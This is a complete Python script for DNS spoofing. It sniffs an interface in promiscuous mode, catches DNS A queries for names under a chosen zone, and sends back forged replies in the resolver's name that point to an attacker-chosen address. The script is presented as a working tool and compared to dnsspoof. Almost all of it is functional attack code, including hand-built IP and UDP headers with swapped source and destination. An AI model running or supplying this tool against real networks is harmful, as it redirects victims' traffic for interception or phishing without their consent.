"""Answers DNS queries seen on an interface, in the name of the resolver that they were sent to.

    inject_dns.py --interface wlan0 --below zone.test --answer 10.77.0.99

Unlike dnsspoof it answers queries with EDNS too, at once.
"""

import argparse
import socket
import struct

import dnswire

ETH_IPV4 = 0x0800
SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1


def checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged(frame: bytes, below: str, address: str) -> bytes | None:
    """The frame that answers a query's frame, if it asks for an address below the name."""
    start = 14 + (frame[14] & 15) * 4
    if frame[23] != socket.IPPROTO_UDP or frame[start + 2 : start + 4] != struct.pack("!H", 53):
        return None
    query = frame[start + 8 :]
    asked = dnswire.question(query)
    if not asked or asked[1] != dnswire.A or not asked[0].endswith("." + below):
        return None
    payload = dnswire.answer(query, asked[2], address)
    udp = frame[start + 2 : start + 4] + frame[start : start + 2] + struct.pack("!HH", 8 + len(payload), 0)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(payload), 0, 0, 64, 17, 0) + frame[30:34] + frame[26:30]
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return frame[6:12] + frame[0:6] + frame[12:14] + ip + udp + payload


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--interface", required=True)
    parser.add_argument("--below", required=True)
    parser.add_argument("--answer", required=True)
    options = parser.parse_args()
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_IPV4))
    wire.bind((options.interface, ETH_IPV4))
    membership = struct.pack("IHH8s", socket.if_nametoindex(options.interface), PACKET_MR_PROMISC, 0, b"")
    wire.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, membership)
    while True:
        frame, origin = wire.recvfrom(65535)
        if origin[2] != socket.PACKET_OUTGOING and len(frame) > 42:
            if reply := forged(frame, options.below, options.answer):
                wire.send(reply)


main()
